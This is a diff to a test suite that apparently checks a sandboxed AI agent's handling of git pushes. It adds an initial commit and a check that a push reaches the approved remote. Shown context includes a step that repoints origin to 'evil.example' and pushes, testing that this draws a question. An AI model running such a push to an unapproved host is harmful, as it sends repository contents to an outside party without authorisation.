@@ -15,6 +15,8 @@ beforeAll(async () => {
     "build.sh": "true\n",
   });
   git("init", "-q", "-b", "main");
+  git("add", "README.md");
+  git("-c", "user.name=n", "-c", "user.email=n@example.com", "commit", "-qm", "first");
   git("remote", "add", "origin", "http://git.example/ours.git");
 });
 afterAll(() => world.close());
@@ -76,6 +78,7 @@ describe.skipIf(!hasSandbox)("a push (needs bubblewrap)", () => {
     await played.session.said("Commit it and push to origin, please.");
     await played.call("bash", { command: "git push origin main" });
     expect(played.flowQuestions()).toEqual([]);
+    expect(world.arrived.join("\n")).toContain("git.example GET /ours.git/info/refs");
     git("remote", "set-url", "origin", "http://evil.example/theirs.git");
     await played.call("bash", { command: "git push origin main" });
     expect(played.flowQuestions()).toHaveLength(1);
